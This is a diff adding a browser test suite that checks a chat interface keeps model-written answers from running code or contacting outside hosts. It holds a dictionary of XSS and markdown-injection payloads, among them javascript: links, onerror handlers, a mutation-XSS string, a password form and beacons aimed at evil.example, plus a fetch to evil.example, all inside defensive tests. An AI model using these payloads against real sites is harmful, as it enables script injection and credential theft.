@@ -1,0 +1,129 @@
+"""Whatever a model writes, nothing of it runs, and no foreign host hears of it."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from tests.stack import Stack, directive
+
+if TYPE_CHECKING:
+    from tests.browser.conftest import NewPage
+
+HOSTILE = {
+    "script": "<script>window.__ran = 1</script>",
+    "image error": '<img src="x" onerror="window.__ran = 1">',
+    "image beacon": "![pixel](https://evil.example/p.png) <img src='https://evil.example/q.png'>",
+    "svg onload": '<svg onload="window.__ran=1"><script>window.__ran=1</script></svg>',
+    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror="
+    "window.__ran=1>'>",
+    "javascript": "[a](javascript:window.__ran=1) <javascript:window.__ran=1>",
+    "javascript with a tab": "[a](java\tscript:window.__ran=1) [b](<java\tscript:window.__ran=1>)",
+    "javascript in entities": "[a](&#106;avascript:window.__ran=1) [b](javascript&colon;x)",
+    "javascript in capitals": "[a](JaVaScRiPt:window.__ran=1)",
+    "data address": "[a](data:text/html,<script>window.__ran=1</script>)",
+    "vbscript, file, blob": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:http://x/y)",
+    "own address": "[a](/accounts/sign-out/) [b](//evil.example/) [c](?x) [d](#message)",
+    "attribute break": '[a](https://x.example/"onmouseover="window.__ran=1)',
+    "title break": '[a](https://x.example "t\\" onmouseover=\\"window.__ran=1")',
+    "style": '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>',
+    "form": '<form action="https://evil.example/"><input name="password"><button>go</button></form>',
+    "frame": '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><object data="x"></object>',
+    "base and meta": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
+    "ids": '<a id="composer" name="thread">x</a><div id="app">',
+    "code fence language": '```x" onclick="window.__ran=1\n<img src=x onerror=window.__ran=1>\n```',
+    "autolink": "https://x.example/<script>window.__ran=1</script> www.x.example",
+    "half tags": '<img src="x" onerror="window.__ran=1"\n\n<a href="javascript:window.__ran=1"',
+    "reference": "[a][r]\n\n[r]: javascript:window.__ran=1",
+    "deep quotes": ">" * 3_000 + " deep",
+    "deep lists": "- " * 1_000 + "deep",
+    "unclosed emphasis": "**a " * 1_000,
+    "nul and bidi": "a\u202e\u2066txt.exe \ufeff",
+    "huge table": "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + ("|" + "x|" * 100 + "\n") * 5,
+}
+
+# What an answer may be made of; everything else would be a way in.
+_AUDIT = """reply => {
+  const allowed = new Set(("DIV P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A H3 H4 H5 H6 " +
+    "TABLE THEAD TBODY TR TH TD BUTTON SPAN svg use").split(" "));
+  const attributes = new Set(("class dir href title start align target rel tabindex role type " +
+    "aria-label aria-hidden data-label").split(" "));
+  const found = [];
+  for (const element of reply.querySelectorAll(".prose *")) {
+    if (!allowed.has(element.tagName)) found.push(element.outerHTML.slice(0, 200));
+    for (const { name, value } of element.attributes) {
+      if (!attributes.has(name)) found.push(`${element.tagName} ${name}=${value}`);
+    }
+    if (element.tagName !== "A" || !element.hasAttribute("href")) continue;
+    if (!/^(https?|mailto):$/.test(element.protocol)) found.push(`address ${element.href}`);
+    if (element.target !== "_blank" || !element.rel.includes("noopener")) found.push("link inward");
+  }
+  return found;
+}"""
+
+
+def pieces(text: str, size: int) -> list[str]:
+    return [text[at : at + size] for at in range(0, len(text), size)]
+
+
+@pytest.mark.parametrize("size", [1, 3, 10_000])
+def test_hostile_answers_run_nothing_in_any_split(
+    stack: Stack, new_page: NewPage, size: int
+) -> None:
+    # All of them on one page: each comes as an answer of its own, streamed in pieces of `size`.
+    chat = new_page().open()
+    for name, hostile in HOSTILE.items():
+        text = hostile if size > 1 or len(hostile) < 500 else hostile[:500]
+        chat.send(directive(pieces=pieces(f"{text}\n\nend of {name}", size)))
+        chat.expect_reply(f"end of {name}")
+        chat.expect_end()
+        faults = chat.page.locator(".reply:last-child").evaluate(_AUDIT)
+        assert faults == [], name
+        assert chat.page.evaluate("window.__ran") is None, name
+    assert chat.violations == []
+    chat.page.reload()
+    chat.expect_reply("end of huge table")
+    for reply in chat.page.locator(".reply").all():
+        assert reply.evaluate(_AUDIT) == []
+    assert chat.page.evaluate("window.__ran") is None
+    assert chat.violations == []
+    assert chat.page.locator("#composer").count() == 1
+
+
+def test_a_users_own_markup_is_text(stack: Stack, new_page: NewPage) -> None:
+    chat = new_page().open()
+    mine = "<img src=x onerror=window.__ran=1> **not bold** [x](javascript:1)"
+    chat.send(f"{mine} {directive(text='ok')}")
+    chat.expect_end()
+    assert chat.page.locator(".user-text").inner_text().startswith(mine)
+    assert chat.page.locator(".user-text *").count() == 0
+
+
+def test_the_policy_stops_what_a_script_would_try(stack: Stack, new_page: NewPage) -> None:
+    """The second wall, tried by itself: injected markup, inline code, foreign hosts."""
+    chat = new_page().open()
+    tried: dict[str, Any] = chat.page.evaluate(
+        """async () => {
+          const outcome = {};
+          const attempt = (name, action) => {
+            try { action(); outcome[name] = "done" } catch (error) { outcome[name] = error.name }
+          };
+          const div = document.createElement("div");
+          attempt("innerHTML", () => { div.innerHTML = "<b>x</b>" });
+          attempt("policy", () => trustedTypes.createPolicy("other", {}));
+          attempt("eval", () => eval("1"));
+          const script = document.createElement("script");
+          attempt("script text", () => { script.textContent = "window.__ran = 1" });
+          document.head.append(script);
+          outcome.fetch = await fetch("https://evil.example/").then(() => "done", (e) => e.name);
+          outcome.ran = window.__ran ?? null;
+          return outcome;
+        }"""
+    )
+    assert tried["innerHTML"] == tried["policy"] == tried["script text"] == "TypeError"
+    assert tried["eval"] == "EvalError"
+    assert tried["fetch"] == "TypeError"
+    assert tried["ran"] is None
+    assert len(chat.violations) >= 4
+    chat.faults.clear()  # the browser wrote each of them into the console, as it should
